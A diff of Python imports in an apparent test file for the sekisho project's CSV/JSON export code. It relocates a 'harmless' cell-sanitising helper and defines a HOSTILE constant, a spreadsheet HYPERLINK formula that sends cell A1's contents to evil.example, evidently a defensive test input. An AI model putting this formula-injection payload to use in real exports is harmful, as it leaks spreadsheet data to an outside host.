@@ -14,11 +14,12 @@ from sekisho.model.money import Money
 from sekisho.report.document import Reject
 from sekisho.report.json import finding_from_json, finding_to_json
 from sekisho.report.said import Said
+from sekisho.text.cells import harmless
 from sekisho.web.answer import shown
 from sekisho.web.export import tables
 from sekisho.web.export.tables import TABLES
 from sekisho.web.export.write import to_csv, to_json
-from sekisho.web.sheets import BOM, harmless
+from sekisho.web.sheets import BOM
 from sekisho.web.shown.models import Case, Finding, Load
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'
